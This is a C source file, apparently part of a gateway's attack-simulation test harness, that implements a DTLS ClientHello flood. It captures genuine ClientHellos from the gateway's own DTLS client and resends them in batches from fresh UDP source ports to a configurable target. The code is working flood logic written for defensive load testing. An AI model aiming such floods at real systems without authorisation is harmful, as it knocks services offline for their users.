/* dtls-hello-flood: real ClientHellos, produced by the gateway's own DTLS
 * client (dtls/dtls_transport.h) and captured at its send callback, each
 * batch from a socket on a fresh source port that never passed an ICE
 * check. */
#include "attack_generator.h"

#include "dtls/certificate.h"
#include "dtls/dtls_context.h"
#include "dtls/dtls_transport.h"

#include <glib.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define POOL 8

typedef struct {
    struct sockaddr_in6 target;
    int fd; /* the socket of the last batch, closed when the next one starts */
    uint8_t hellos[POOL][MOAT_DTLS_MTU];
    size_t lengths[POOL];
    size_t next;
} hello_state;

typedef struct {
    uint8_t *out;
    size_t *length;
} capture;

static void capture_first_flight(void *user, const uint8_t *datagram, size_t length)
{
    capture *c = user;
    if (*c->length == 0 && length <= MOAT_DTLS_MTU) {
        memcpy(c->out, datagram, length);
        *c->length = length;
    }
}

static int capture_hellos(hello_state *st, char *error, size_t error_size)
{
    moat_certificate *certificate = moat_certificate_generate(error, error_size);
    if (certificate == NULL)
        return -1;
    moat_dtls_context *context = moat_dtls_context_new(certificate, error, error_size);
    int result = context != NULL ? 0 : -1;
    for (size_t i = 0; i < POOL && result == 0; i++) {
        capture c = {.out = st->hellos[i], .length = &st->lengths[i]};
        moat_dtls_callbacks callbacks = {.send = capture_first_flight};
        /* Any well-formed fingerprint: no handshake ever completes. */
        moat_dtls_transport *t = moat_dtls_transport_new(context, MOAT_DTLS_ROLE_CLIENT, "sha-256",
                                                         moat_certificate_fingerprint(certificate),
                                                         &callbacks, &c, error, error_size);
        if (t == NULL || moat_dtls_transport_start(t) != MOAT_DTLS_OK || st->lengths[i] == 0) {
            if (t != NULL)
                snprintf(error, error_size, "the DTLS client produced no ClientHello");
            result = -1;
        }
        moat_dtls_transport_free(t);
    }
    moat_dtls_context_free(context);
    moat_certificate_free(certificate);
    return result;
}

static void destroy_hello(void *state)
{
    hello_state *st = state;
    if (st->fd >= 0)
        close(st->fd);
    g_free(st);
}

static void *create_hello(const attack_environment *env, char *error, size_t error_size)
{
    hello_state *st = g_new0(hello_state, 1);
    st->fd = -1;
    st->target = env->target;
    if (capture_hellos(st, error, error_size) != 0) {
        destroy_hello(st);
        return NULL;
    }
    return st;
}

static size_t fill_hello(void *state, attack_batch *batch, size_t max, uint64_t now_us)
{
    hello_state *st = state;
    if (st->fd >= 0)
        close(st->fd);
    char error[128];
    st->fd = attack_udp_socket_open(error, sizeof error);
    if (st->fd < 0)
        return 0;
    attack_batch_aim(batch, st->fd, &st->target);
    for (size_t i = 0; i < max; i++) {
        memcpy(batch->datagrams[i], st->hellos[st->next], st->lengths[st->next]);
        batch->lengths[i] = st->lengths[st->next];
        st->next = (st->next + 1) % POOL;
    }
    return max;
}

const attack_generator attack_dtls_hello_flood = {
    .kind = ATTACK_DTLS_HELLO_FLOOD,
    .create = create_hello,
    .fill = fill_hello,
    .destroy = destroy_hello,
};
